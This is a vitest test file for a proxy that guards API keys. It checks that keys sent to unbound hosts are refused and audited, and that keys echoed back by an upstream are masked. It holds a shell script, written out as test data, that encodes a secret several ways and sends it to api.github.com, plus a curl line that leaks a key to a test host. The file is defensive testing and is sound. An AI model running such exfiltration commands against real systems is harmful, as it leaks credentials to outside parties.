// What a hostile program of a real run tries with what it has, and with a key it should not have: every way to a host that the key is not
// bound to is refused with 403 and shown by `audit list --denied`. And what `scrub` does with a key that an upstream echoes.
import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openScene, type Scene } from "../support/scene.ts";

const HOSTS = ["api.openai.com", "api.github.com"];
let scene: Scene;
beforeAll(async () => {
  scene = await openScene({ hosts: [...HOSTS, "unbound.example.test"] });
  await scene.login("openai");
  await scene.login("github");
});
afterAll(() => scene.close());

/** $1 the text; each form of it in each place to GitHub, over HTTP/1.1 in both lanes and over HTTP/2. One status and code a line. */
const TRY = `
text=$1; host=https://api.github.com
percent=$(printf %s "$text" | od -An -tx1 -v | tr -d '\\n' | sed 's/ /%/g')
base64=$(printf 'u:%s' "$text" | base64 -w0); inurl=$(printf %s "$base64" | sed 's/+/%2B/g; s/=/%3D/g; s|/|%2F|g')
ask() { curl -sS -m 20 -o answer -w '%{http_code} ' "$@"; sed -n 's/.*"code":"\\([A-Z_]*\\)".*/\\1/p' answer; }
for form in "$text $text" "$percent $percent" "$base64 $inurl"; do
  set -- $form
  for lane in "--http1.1" "--http1.1 -H Expect:x" "--http2"; do
    ask $lane $host/user -H "X-Note: $1"; ask $lane "$host/user?q=$2"; ask $lane "$host/$2/x"; ask $lane $host/gists -d "a=$1"
  done
done`;

const run = (script: string, options: { args?: readonly string[]; stdin?: string } = {}) =>
  scene.home.run(["run", "--quiet", ...(options.args ?? []), "--", "sh", "-c", script, "sh"], { stdin: options.stdin ?? "" });

async function denied(): Promise<{ code: string; host: string; provider: string; runId: string }[]> {
  const { stdout } = await scene.home.succeed(["audit", "list", "--denied", "--limit", "200", "--json"]);
  return (JSON.parse(stdout) as { entries: { code: string; host: string; provider: string; runId: string }[] }).entries;
}

describe("a program that sends on", () => {
  it.each([
    ["a placeholder", 'eval "try() { $TRY\n}"; try "$OPENAI_API_KEY"', "PLACEHOLDER_LEAK"],
    ["a real key", 'read key; eval "try() { $TRY\n}"; try "$key"', "KEY_LEAK"],
  ])("%s is refused in every place and form, in every lane, and shown by audit list --denied", async (_what, script, code) => {
    const before = (await denied()).length;
    const seen = scene.upstream.requests.length;
    const { stdout, stderr } = await run(`TRY='${TRY.replaceAll("'", `'\\''`)}'; ${script}`, { stdin: `${scene.keys[0]}\n` });
    expect(stderr).toBe("");
    expect(stdout.trim().split("\n")).toEqual(Array.from({ length: 36 }, () => `403 ${code}`));
    expect(scene.upstream.requests.slice(seen)).toEqual([]);
    const entries = (await denied()).slice(before);
    expect(entries.length).toBe(36);
    expect(new Set(entries.map((entry) => `${entry.code} ${entry.provider} ${entry.host}`))).toEqual(
      new Set([`${code} openai api.github.com`]),
    );
    const listed = (await scene.home.succeed(["audit", "list", "--denied"])).stdout;
    expect(listed).toContain(code);
  });

  it("either of them through a tunnel to a host of nobody is not seen, and --deny-unmatched closes those", async () => {
    const script = 'curl -sS -k -o /dev/null -w "%{http_connect}" https://unbound.example.test/ -H "X-Note: $OPENAI_API_KEY"';
    expect((await run(script)).stdout).toBe("200");
    expect((await scene.upstream.nextRequest()).headers["x-note"]).toMatch(/^sk-/);
    expect((await run(script, { args: ["--deny-unmatched"] })).stdout).toBe("403");
    expect((await denied()).map(({ host }) => host)).toContain("unbound.example.test");
  });
});

describe("a key that an upstream echoes", () => {
  const script = 'curl -sS -w " %{http_code}" -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models';

  it.each([
    ["is masked when nothing is set", null, /^\{"you":"Bearer \*+"\} 200$/],
    ["is masked by scrub = mask", "mask", /^\{"you":"Bearer \*+"\} 200$/],
    ["is withheld by scrub = block", "block", /CREDENTIAL_ECHOED[^]* 502$/],
    ["is masked again by what is set for the connection alone", "block,openai/default=mask", /^\{"you":"Bearer \*+"\} 200$/],
  ])("%s", async (_what, setting, expected) => {
    if (setting !== null) await scene.home.succeed(["config", "set", "scrub", setting]);
    scene.upstream.answerWith((request) => ({ body: JSON.stringify({ you: request.headers["authorization"] }) }));
    const { stdout } = await run(script);
    expect(stdout).toMatch(expected);
  });

  it("passes with scrub = off, which is what it says", async () => {
    await scene.home.succeed(["config", "set", "scrub", "off"]);
    scene.upstream.answerWith((request) => ({ body: JSON.stringify({ you: request.headers["authorization"] }) }));
    const passed = createHash("sha256").update(`{"you":"Bearer ${scene.keys[0]}"} 200`).digest("hex");
    // A digest, so that the key is in nothing that is printed.
    expect((await run(`${script} | sha256sum`)).stdout).toBe(`${passed}  -\n`);
  });
});

it("no key is anywhere", () => scene.assertNoSecret());
